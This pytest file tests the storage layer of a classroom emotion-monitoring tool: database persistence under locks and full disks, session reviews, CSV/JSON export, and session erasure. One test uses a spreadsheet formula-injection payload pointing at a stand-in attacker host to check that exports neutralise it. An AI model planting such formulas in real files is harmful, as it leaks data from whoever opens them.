"""Storage keeps every accepted row (locked database, full disk, restart), reviews, exports and erases sessions.

Every test that is not about SQLite itself runs twice: on SQLite and on a real PostgreSQL that tests/postgres.py
starts (the `url` fixture gives an empty database of each).
"""
from __future__ import annotations

import csv
import inspect
import json
import os
import sqlite3
import subprocess
import threading
import time
from pathlib import Path
from typing import Callable

import pytest
from sqlalchemy import create_engine, event, text
from sqlalchemy.exc import DatabaseError, OperationalError

from core.emotions import EMOTIONS
from core.records import AlertRecord, SampleRecord
from signaling.store import Store
from storage import Repository, csvrows, export, schema
from tests.postgres import BACKENDS, postgres_server, url_for  # noqa: F401  (postgres_server: a fixture)

PROJECT = Path(__file__).resolve().parent.parent
PYTHON = str(PROJECT / ".venv" / "bin" / "python")
HAPPY = (0.0, 0.0, 0.0, 0.7, 0.1, 0.1, 0.1)
SAD = (0.1, 0.0, 0.1, 0.0, 0.7, 0.0, 0.1)


def query(db: str | Path, statement: str, **params: object) -> list[tuple]:
    """Run SQL on a fresh connection: what is really in the database, not in the repository's memory."""
    engine = create_engine(db if isinstance(db, str) else f"sqlite:///{db}")
    try:
        with engine.begin() as conn:
            result = conn.execute(text(statement), params)
            return [tuple(row) for row in result] if result.returns_rows else []
    finally:
        engine.dispose()


def count(db: str | Path, table: str, where: str = "1=1") -> int:
    return query(db, f"SELECT COUNT(*) FROM {table} WHERE {where}")[0][0]


def wait_until(predicate: Callable[[], bool], timeout: float = 5.0) -> bool:
    deadline = time.monotonic() + timeout
    while not predicate():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.02)
    return True


@pytest.fixture(params=BACKENDS)
def url(request, tmp_path) -> str:
    """An empty database of each backend."""
    return url_for(request.param, request, tmp_path)


@pytest.fixture
def db(tmp_path) -> Path:
    """A SQLite file, for the tests of SQLite's own behaviour."""
    return tmp_path / "classmood.sqlite"


@pytest.fixture
def repo(url):
    r = Repository(url, flush_seconds=0.05)
    yield r
    r.close()


@pytest.fixture
def sqlite_repo(db):
    r = Repository(f"sqlite:///{db}", flush_seconds=0.05)
    yield r
    r.close()


def new_session(repo: Repository, room: str = "room1", people=("p1",)) -> str:
    repo.create_room(room, "Maths", "joinkey123", "0" * 64)
    sid = repo.start_session(room)
    for p in people:
        repo.add_participant(sid, p, p.upper())
    return sid


def samples(sid: str, pid: str, n: int, t0: float, probs=HAPPY, face: bool = True,
            confusion: float = 0.2, boredom: float = 0.1) -> list[SampleRecord]:
    return [SampleRecord(sid, pid, t0 + i * 0.5, face, probs if face else None, confusion, boredom, 0.9, 0.01)
            for i in range(n)]


class Blocker:
    """Another client holding the database (SQLite) or the bot's tables (PostgreSQL) locked until release()."""

    def __init__(self, url: str) -> None:
        self.engine = create_engine(url)
        self.conn = self.engine.connect()
        if url.startswith("sqlite"):
            self.conn.exec_driver_sql("BEGIN EXCLUSIVE")
        else:
            self.conn.begin()
            self.conn.exec_driver_sql("LOCK TABLE samples, alerts, participants IN ACCESS EXCLUSIVE MODE")

    def release(self) -> None:
        if self.engine.dialect.name == "sqlite":
            self.conn.exec_driver_sql("COMMIT")
        else:
            self.conn.commit()
        self.conn.close()
        self.engine.dispose()


def hold_exclusive_lock(url: str) -> Blocker:
    return Blocker(url)


def test_repository_satisfies_the_store_protocol():
    methods = [(n, m) for n, m in inspect.getmembers(Store, inspect.isfunction) if not n.startswith("_")]
    assert len(methods) == 14
    for name, member in methods:
        assert list(inspect.signature(getattr(Repository, name)).parameters) == \
            list(inspect.signature(member).parameters), name


def test_round_trip_of_rooms_sessions_participants_samples_alerts(repo, url):
    assert repo.get_room("room1") is None
    sid = new_session(repo, people=("p1", "p2"))
    room = repo.get_room("room1")
    assert {k: room[k] for k in ("room_id", "title", "join_key", "teacher_token_hash")} == \
        {"room_id": "room1", "title": "Maths", "join_key": "joinkey123", "teacher_token_hash": "0" * 64}
    assert repo.session_room(sid) == "room1" and repo.session_room("nope") is None
    repo.set_opt_out(sid, "p2", True)
    repo.participant_left(sid, "p2")
    assert repo.add_samples(samples(sid, "p1", 3, 100.0)) == 3
    repo.add_alert(AlertRecord("a1", sid, 101.0, "student", "confusion", "P1 seems confused", 0.6, "p1", "P1"))
    repo.add_alert(AlertRecord("a2", sid, 102.0, "class", "boredom", "Class seems bored", 0.5))
    repo.acknowledge_alert("a1")
    repo.end_session(sid)
    assert repo.flush()

    (listed,) = repo.list_sessions("room1")
    assert (listed["session_id"], listed["participants"], listed["samples"], listed["alerts"]) == (sid, 2, 3, 2)
    assert listed["ended_at"] is not None and repo.list_sessions("other") == []
    assert query(url, "SELECT name, analysis_opt_out, left_at IS NOT NULL FROM participants ORDER BY participant_id"
                 ) == [("P1", False, False), ("P2", True, True)]
    (row,) = query(url, f"SELECT t, face_found, {', '.join(schema.PROB_COLUMNS)}, top_label, confusion, boredom, "
                   "attention FROM samples ORDER BY t LIMIT 1")
    assert row == (100.0, True, *HAPPY, "happy", 0.2, 0.1, 0.9)
    assert query(url, "SELECT alert_id, acknowledged, acknowledged_at IS NOT NULL, participant_id FROM alerts "
                 "ORDER BY alert_id") == [("a1", True, True, "p1"), ("a2", False, False, None)]
    assert repo.stats()["accepted"] == repo.stats()["written"] == 11 and repo.stats()["pending"] == 0


def test_rows_accepted_before_close_are_all_in_the_database(url):
    repo = Repository(url, flush_seconds=0.5)   # a slow pace: close must not wait for it
    sid = new_session(repo, people=("p1", "p2"))
    repo.add_samples(samples(sid, "p1", 300, 1000.0))
    repo.add_samples(samples(sid, "p2", 200, 1000.0, SAD))
    repo.add_alert(AlertRecord("a1", sid, 1010.0, "student", "confusion", "P2 seems confused", 0.6, "p2", "P2"))
    repo.close()
    repo.close()                                                   # idempotent
    assert count(url, "samples") == 500 and count(url, "alerts") == 1
    assert query(url, "SELECT top_label FROM samples WHERE participant_id='p2' LIMIT 1") == [("sad",)]
    assert repo.stats()["lost"] == 0 and repo.stats()["written_samples"] == 500
    # After close nothing is accepted, nothing raises, and the refusal is counted.
    assert repo.add_samples(samples(sid, "p1", 2, 2000.0)) == 0 and repo.stats()["lost"] == 2


def test_sqlite_connections_use_wal_normal_sync_busy_timeout_and_foreign_keys(sqlite_repo):
    with sqlite_repo.engine.connect() as conn:
        assert conn.exec_driver_sql("PRAGMA journal_mode").scalar() == "wal"
        assert conn.exec_driver_sql("PRAGMA synchronous").scalar() == 1          # NORMAL
        assert conn.exec_driver_sql("PRAGMA busy_timeout").scalar() == 5000
        assert conn.exec_driver_sql("PRAGMA foreign_keys").scalar() == 1
        assert conn.exec_driver_sql("PRAGMA secure_delete").scalar() == 1        # erased rows are overwritten


def test_writer_survives_a_locked_database_and_loses_nothing(repo, url):
    sid = new_session(repo)
    assert repo.flush()
    blocker = hold_exclusive_lock(url)
    started = time.monotonic()
    repo.add_samples(samples(sid, "p1", 50, 2000.0))
    repo.add_alert(AlertRecord("a1", sid, 2001.0, "class", "boredom", "Class seems bored", 0.5))
    assert time.monotonic() - started < 0.2                        # callers never wait for the database
    assert wait_until(lambda: repo.stats()["write_errors"] >= 1)   # the writer's 1 s lock timeout expired
    assert "lock" in repo.stats()["last_error"] and repo.stats()["pending"] == 51
    assert not repo.flush(timeout=0.2)
    blocker.release()
    assert repo.flush(timeout=10)
    assert count(url, "samples") == 50 and count(url, "alerts") == 1
    assert repo.stats()["lost"] == 0 and repo.stats()["pending"] == 0


def test_a_full_disk_keeps_rows_pending_and_recovers_when_space_returns(sqlite_repo, db, caplog):
    repo = sqlite_repo
    sid = new_session(repo)
    repo.add_samples(samples(sid, "p1", 10, 3000.0))
    assert repo.flush()
    con = sqlite3.connect(db)
    pages = con.execute("PRAGMA page_count").fetchone()[0]
    con.close()
    # SQLITE_FULL without filling a disk: cap the writer's connections at the file's current size.
    cap = {"pages": pages}

    @event.listens_for(repo.write_engine, "connect")
    def _cap(dbapi_connection, _record):
        dbapi_connection.execute(f"PRAGMA max_page_count={cap['pages']}")
    repo.write_engine.dispose()
    repo.add_samples(samples(sid, "p1", 2000, 4000.0))
    assert wait_until(lambda: repo.stats()["write_errors"] >= 2)   # retried, still full
    assert "full" in repo.stats()["last_error"] and repo.stats()["pending"] == 2000
    assert count(db, "samples") == 10
    cap["pages"] = 1_000_000                                       # space returns
    repo.write_engine.dispose()
    assert repo.flush(timeout=10)
    assert count(db, "samples") == 2010                            # every row once: no loss, no duplicates
    assert repo.stats()["lost"] == 0
    messages = [r.getMessage() for r in caplog.records if r.name == "classmood.storage"]
    assert sum("database write failed" in m for m in messages) == 1   # one error per outage, not per retry
    assert sum("writable again" in m for m in messages) == 1


def test_any_database_error_is_retried_not_dropped(repo, url):
    sid = new_session(repo)
    assert repo.flush()
    real_apply, failures = repo._writer.apply, {"left": 2}

    def flaky(conn, batch):
        if failures["left"]:
            failures["left"] -= 1
            raise DatabaseError("INSERT ...", None, Exception("file is not a database"))
        return real_apply(conn, batch)
    repo._writer.apply = flaky
    repo.add_samples(samples(sid, "p1", 20, 5000.0))
    assert repo.flush(timeout=10)
    assert count(url, "samples") == 20 and repo.stats()["write_errors"] == 2 and repo.stats()["lost"] == 0


def test_a_row_rejected_for_good_is_dropped_alone_and_counted(repo, url, caplog):
    sid = new_session(repo)
    repo.add_samples(samples(sid, "p1", 5, 6000.0))
    repo.add_samples(samples(sid, "ghost", 1, 6002.0))             # no participant row: foreign key refuses it
    repo.add_samples(samples(sid, "p1", 5, 6010.0))
    assert repo.flush()
    assert count(url, "samples") == 10 and count(url, "samples", "participant_id='ghost'") == 0
    assert repo.stats()["lost"] == 1 and "foreign key" in repo.stats()["last_error"].lower()
    # Logged before flush() returns, so whoever saw the flush finish can also read why a row is missing.
    assert any("rejected a sample row for good" in r.getMessage() for r in caplog.records)


def test_an_outage_while_isolating_a_rejected_row_writes_nothing_twice(url):
    repo = Repository(url, flush_seconds=5.0)       # slow pace: everything below is one batch
    sid = new_session(repo)
    assert repo.flush()
    real_apply, calls = repo._writer.apply, []

    def flaky(conn, batch):
        calls.append(len(batch))
        if len(calls) == 4:   # whole batch refused, two single rows committed, then the database locks
            raise OperationalError("INSERT ...", None, Exception("database is locked"))
        return real_apply(conn, batch)
    repo._writer.apply = flaky
    repo.add_samples(samples(sid, "p1", 3, 6000.0))
    repo.add_samples(samples(sid, "ghost", 1, 6002.0))
    repo.add_samples(samples(sid, "p1", 3, 6010.0))
    assert repo.flush(timeout=5)
    repo.close()
    assert calls[:4] == [7, 1, 1, 1] and repo.stats()["write_errors"] == 1
    assert count(url, "samples") == 6 and repo.stats()["lost"] == 1


def test_past_the_memory_cap_the_oldest_rows_are_dropped_and_counted(url, caplog):
    repo = Repository(url, flush_seconds=5.0, max_pending_rows=100)
    sid = new_session(repo)
    assert repo.flush()
    blocker = hold_exclusive_lock(url)
    repo.add_participant(sid, "p2", "P2")                          # bookkeeping is never dropped
    repo.add_samples(samples(sid, "p2", 150, 7000.0))
    assert repo.stats()["lost"] == 51 and repo.stats()["pending"] == 100   # 1 participant + 99 samples
    assert sum("dropping the oldest" in r.getMessage() for r in caplog.records if r.levelname == "ERROR") == 1
    blocker.release()
    repo.close()
    assert count(url, "samples") == 99 and count(url, "participants", "participant_id='p2'") == 1
    assert query(url, "SELECT MIN(t), MAX(t) FROM samples") == [(7000.0 + 51 * 0.5, 7000.0 + 149 * 0.5)]


def test_flush_returns_under_continuous_load(repo, url):
    sid = new_session(repo)
    stop = threading.Event()

    def producer() -> None:
        t = 8000.0
        while not stop.is_set():
            repo.add_samples(samples(sid, "p1", 5, t))
            t += 5
            time.sleep(0.002)
    thread = threading.Thread(target=producer)
    thread.start()
    try:
        time.sleep(0.1)
        accepted = repo.stats()["accepted"]
        assert repo.flush(timeout=3)
        assert count(url, "samples") + 1 >= accepted            # +1: the participant row is in `accepted`
    finally:
        stop.set()
        thread.join()


def test_review_aggregates_buckets_and_students(repo):
    sid = new_session(repo, people=("p1", "p2", "p3"))
    repo.set_opt_out(sid, "p3", True)
    repo.add_samples(samples(sid, "p1", 20, 10_000.0, HAPPY, confusion=0.2))           # bucket 0: 10 s happy
    repo.add_samples(samples(sid, "p2", 10, 10_000.0, SAD, confusion=0.8))             # bucket 0: 5 s sad ...
    repo.add_samples(samples(sid, "p2", 10, 10_005.0, face=False, confusion=0.5))      # ... 5 s no face
    repo.add_samples(samples(sid, "p2", 4, 10_010.0, HAPPY, confusion=0.4))            # bucket 1: 2 s happy
    repo.add_alert(AlertRecord("a1", sid, 10_004.0, "student", "confusion", "P2 seems confused", 0.7, "p2", "P2"))
    repo.add_alert(AlertRecord("a2", sid, 10_006.0, "class", "confusion", "Class seems confused", 0.5))
    repo.flush()
    review = repo.session_review(sid, bucket_seconds=10)
    assert review["session"]["session_id"] == sid and review["session"]["title"] == "Maths"
    assert review["emotions"] == list(EMOTIONS)
    first, second = review["timeline"]
    assert (first["t"], first["n"], first["students"]) == (10_000.0, 30, 2)
    assert first["probs"][EMOTIONS.index("happy")] == pytest.approx(0.7 * 20 / 30, abs=1e-4)
    assert first["probs"][EMOTIONS.index("sad")] == pytest.approx((0.1 * 20 + 0.7 * 10) / 30, abs=1e-4)
    assert first["confusion"] == pytest.approx((20 * 0.2 + 10 * 0.8 + 10 * 0.5) / 40, abs=1e-4)
    assert (second["t"], second["n"], second["students"], second["confusion"]) == (10_010.0, 4, 1, 0.4)
    assert [a["alert_id"] for a in review["alerts"]] == ["a1", "a2"]
    by_id = {s["participant_id"]: s for s in review["students"]}
    p1, p2, p3 = by_id["p1"], by_id["p2"], by_id["p3"]
    assert p1["share"] == {**{label: 0.0 for label in EMOTIONS}, "happy": 1.0} and p1["face_share"] == 1.0
    assert p1["seconds_analysed"] == 9.5 and p1["samples"] == 20 and p1["alerts"] == 0
    assert p2["share"]["sad"] == pytest.approx(10 / 14, abs=1e-4) and p2["share"]["happy"] == pytest.approx(4 / 14, abs=1e-4)
    assert p2["face_share"] == pytest.approx(14 / 24, abs=1e-4) and p2["samples"] == 24 and p2["alerts"] == 1
    assert p2["mean_confusion"] == pytest.approx((10 * 0.8 + 10 * 0.5 + 4 * 0.4) / 24, abs=1e-4)
    assert p2["seconds_analysed"] == 11.5 and p2["name"] == "P2"
    assert p3["samples"] == 0 and p3["opted_out"] is True and p3["face_share"] is None
    # Each student's own timeline, in the same buckets; a student without samples has none.
    series = review["student_series"]
    assert [(b["t"], b["confusion"]) for b in series["p1"]] == [(10_000.0, 0.2)]
    assert [(b["t"], b["confusion"]) for b in series["p2"]] == [(10_000.0, pytest.approx(0.65)), (10_010.0, 0.4)]
    assert "p3" not in series
    assert repo.session_review("nope") is None
    json.dumps(review)                                             # the server sends it as JSON


def test_csv_streams_every_row_across_pages_with_equal_times(repo, monkeypatch):
    monkeypatch.setattr(csvrows, "PAGE_ROWS", 7)
    sid = new_session(repo, people=("p1", "p2"))
    rows = [SampleRecord(sid, f"p{1 + i % 2}", 100.0 + i // 4, True, HAPPY) for i in range(30)]  # 4 rows per t
    repo.add_samples(rows)
    repo.flush()
    lines = list(repo.iter_samples_csv(sid))
    assert lines[0].rstrip("\n").split(",") == csvrows.SAMPLES_HEADER and len(lines) == 31
    times = [float(line.split(",")[1]) for line in lines[1:]]
    assert times == sorted(times) and times.count(100.0) == 4 and times[-1] == 107.0
    assert lines[1].startswith("1970-01-01T00:01:40.000Z,100.000,p1,P1,1,0.0000,")


def test_names_that_look_like_formulas_stay_plain_text_in_csv(repo):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    sid = new_session(repo, people=())
    repo.add_participant(sid, "p1", evil)
    repo.add_participant(sid, "p2", "Ana-Maria")
    repo.add_samples(samples(sid, "p1", 1, 100.0) + samples(sid, "p2", 1, 100.5))
    repo.add_alert(AlertRecord("a1", sid, 101.0, "student", "confusion", evil + " seems confused", 0.6, "p1", evil))
    repo.add_alert(AlertRecord("a2", sid, 102.0, "student", "boredom", "+1 bored", 0.6, "p2", "@home"))
    assert repo.flush()
    sample_rows = list(csv.DictReader(repo.iter_samples_csv(sid)))
    assert [r["name"] for r in sample_rows] == ["'" + evil, "Ana-Maria"]
    alert_rows = list(csv.DictReader(repo.iter_alerts_csv(sid)))
    assert [(r["name"], r["message"]) for r in alert_rows] == [
        ("'" + evil, "'" + evil + " seems confused"), ("'@home", "'+1 bored")]


def test_export_cli_writes_csv_json_and_rejects_bad_input(repo, url, tmp_path):
    sid = new_session(repo)
    repo.add_samples(samples(sid, "p1", 3, 20_000.0))
    repo.add_samples(samples(sid, "p1", 1, 20_001.5, face=False))
    repo.add_alert(AlertRecord("a1", sid, 20_001.0, "student", "confusion", "P1, seems \"confused\"", 0.6, "p1", "P1"))
    repo.close()
    out = tmp_path / "export"
    env = {**os.environ, "CLASSMOOD_STORAGE_URL": url}   # the URL through core.settings
    ok = subprocess.run([PYTHON, "-m", "storage.export", "--session", sid, "--out", str(out)],
                        cwd=PROJECT, env=env, capture_output=True, text=True, timeout=60)
    assert ok.returncode == 0, ok.stderr
    assert ok.stdout.split() == [str(out / n) for n in ("samples.csv", "alerts.csv", "review.json")]
    lines = (out / "samples.csv").read_text().splitlines()
    assert lines[0] == "time_iso,t,participant_id,name,face_found," + ",".join(EMOTIONS) + \
        ",top_label,confusion,boredom,attention"
    assert lines[1] == "1970-01-01T05:33:20.000Z,20000.000,p1,P1,1,0.0000,0.0000,0.0000,0.7000,0.1000,0.1000," \
                       "0.1000,happy,0.2000,0.1000,0.9000"
    assert lines[4].split(",")[4:13] == ["0", "", "", "", "", "", "", "", ""] and len(lines) == 5
    alerts = (out / "alerts.csv").read_text().splitlines()
    assert alerts == ["time_iso,t,level,kind,participant_id,name,value,message,acknowledged",
                      '1970-01-01T05:33:21.000Z,20001.000,student,confusion,p1,P1,0.6000,"P1, seems ""confused""",0']
    assert json.loads((out / "review.json").read_text())["students"][0]["samples"] == 4

    bad = subprocess.run([PYTHON, "-m", "storage.export", "--db", url, "--session", "nope", "--out", str(out)],
                         cwd=PROJECT, capture_output=True, text=True, timeout=60)
    assert bad.returncode == 2 and "no session 'nope'" in bad.stderr and "Traceback" not in bad.stderr


def test_export_cli_lists_sessions_and_fails_cleanly_on_unusable_databases(sqlite_repo, db, tmp_path, capsys):
    repo = sqlite_repo
    sid = new_session(repo)
    repo.flush()
    assert export.main(["--db", f"sqlite:///{db}", "--list"]) == 0
    assert sid in capsys.readouterr().out
    assert export.main(["--db", str(tmp_path / "none.sqlite"), "--list"]) == 2
    assert "not found" in capsys.readouterr().err and not (tmp_path / "none.sqlite").exists()
    garbage = tmp_path / "garbage.sqlite"
    garbage.write_bytes(b"this is not a database" * 100)
    assert export.main(["--db", str(garbage), "--session", sid, "--out", str(tmp_path / "x")]) == 2
    assert "not a database" in capsys.readouterr().err
    assert export.main(["--db", str(db)]) == 2
    assert "--session" in capsys.readouterr().err


def row_counts(url: str, sid: str) -> list[int]:
    return [count(url, table, f"session_id = '{sid}'") for table in ("sessions", "participants", "samples", "alerts")]


def test_deleting_a_session_erases_all_its_rows_and_nothing_else(repo, url):
    gone, kept = new_session(repo, people=("p1", "p2")), new_session(repo, room="room2")
    for sid, pid in ((gone, "p1"), (gone, "p2"), (kept, "p1")):
        repo.add_samples(samples(sid, pid, 5, 100.0))
        repo.add_alert(AlertRecord(f"a-{sid}-{pid}", sid, 101.0, "student", "confusion", "confused", 0.6, pid, pid))
    # no flush: rows still queued for the session are written before it is erased, not after
    assert repo.delete_session(gone) is True
    assert row_counts(url, gone) == [0, 0, 0, 0] and row_counts(url, kept) == [1, 1, 5, 1]
    assert repo.delete_session(gone) is False and repo.session_review(gone) is None
    assert [s["session_id"] for s in repo.list_sessions(None)] == [kept]


def test_retention_erases_sessions_ended_before_the_cutoff_and_crashed_ones_started_before_it(repo, url):
    old, recent, crashed, live, long_running = (new_session(repo, room=f"r{i}") for i in range(5))
    for sid in (old, recent):
        repo.end_session(sid)
    repo.add_samples(samples(long_running, "p1", 3, 6000.0))      # started long ago, still recording
    repo.add_samples(samples(crashed, "p1", 3, 1000.0))           # its last sample is before the cutoff
    repo.flush()
    query(url, "UPDATE sessions SET ended_at = 1000 WHERE session_id = :sid", sid=old)
    query(url, "UPDATE sessions SET started_at = 1000 WHERE session_id IN (:a, :b)", a=crashed, b=long_running)
    assert sorted(repo.delete_sessions_before(5000.0)) == sorted([old, crashed])
    assert sorted(s["session_id"] for s in repo.list_sessions(None)) == sorted([recent, live, long_running])


def test_export_cli_deletes_sessions_and_erases_expired_ones(repo, url, capsys):
    keep, drop, expired = (new_session(repo, room=f"r{i}") for i in range(3))
    repo.end_session(expired)
    repo.flush()
    query(url, "UPDATE sessions SET ended_at = 1000 WHERE session_id = :sid", sid=expired)
    assert export.main(["--db", url, "--delete", drop]) == 0
    assert capsys.readouterr().out.strip() == f"deleted {drop}"
    assert export.main(["--db", url, "--delete", "nope"]) == 2
    assert "no session 'nope'" in capsys.readouterr().err
    assert export.main(["--db", url, "--erase-expired", "--storage-retention-days", "0"]) == 2
    assert "nothing expires" in capsys.readouterr().err
    assert export.main(["--db", url, "--erase-expired"]) == 0
    assert f"erased 1 session(s) older than 90 days\n  {expired}" in capsys.readouterr().out
    assert [s["session_id"] for s in repo.list_sessions(None)] == [keep]


def test_a_restarted_bot_continues_the_open_session(repo):
    sid = new_session(repo)
    assert repo.resume_or_start_session("room1", sid) == sid
    assert repo.resume_or_start_session("room1", None) != sid
    assert repo.resume_or_start_session("room1", "unknown") != sid
    assert repo.resume_or_start_session("other", sid) != sid      # never another room's session
    repo.end_session(sid)
    assert repo.resume_or_start_session("room1", sid) == sid      # a bot restart right after shutdown reopens it
    assert repo.list_sessions("room1")[-1]["ended_at"] is None
    repo.end_session(sid)
    assert repo.resume_or_start_session("room1", sid, grace_seconds=0) != sid   # a long-ended class is not reopened


def test_writes_from_many_threads_all_land(repo, url):
    sid = new_session(repo, people=tuple(f"p{i}" for i in range(8)))

    def writer(i: int) -> None:
        for k in range(50):
            repo.add_samples(samples(sid, f"p{i}", 1, 30_000.0 + k))
    threads = [threading.Thread(target=writer, args=(i,)) for i in range(8)]
    for th in threads:
        th.start()
    for th in threads:
        th.join()
    assert repo.flush()
    assert count(url, "samples") == 400 and repo.stats()["written_samples"] == 400


def test_errors_are_described_in_one_line_with_the_drivers_message():
    from sqlalchemy.exc import OperationalError

    from core.errors import describe
    wrapped = OperationalError("INSERT ...", {}, sqlite3.OperationalError("database or disk is full\nmore"))
    assert describe(wrapped) == "OperationalError: database or disk is full"
    assert describe(ValueError("x" * 500)) == "ValueError: " + "x" * 200
    assert describe(KeyError()) == "KeyError"


def test_a_session_keeps_its_first_end_time(repo):
    sid = new_session(repo)
    repo.end_session(sid, at=1000.0)                 # e.g. when the last person left, before the bot was dismissed
    repo.end_session(sid)                            # a late second end (a bot that was away) changes nothing
    repo.flush()
    assert [s["ended_at"] for s in repo.list_sessions("room1")] == [1000.0]
    assert repo.finish_session(sid, 2000.0) is False
    other = repo.start_session("room1")
    assert repo.finish_session(other, 3000.0) is True
    assert {s["session_id"]: s["ended_at"] for s in repo.list_sessions("room1")}[other] == 3000.0
